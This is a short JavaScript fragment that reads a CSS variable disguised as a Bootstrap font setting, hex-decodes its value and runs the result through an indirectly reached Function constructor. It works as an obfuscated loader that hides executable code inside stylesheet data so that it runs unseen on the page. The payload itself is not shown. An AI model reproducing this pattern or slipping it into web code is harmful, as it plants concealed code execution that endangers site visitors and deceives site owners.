const v = getComputedStyle(document.documentElement).getPropertyValue('--bs-font-set').trim().slice(1, -1);
[].constructor.constructor(decodeURIComponent(v.replace(/(..)/g, '%$1')))();
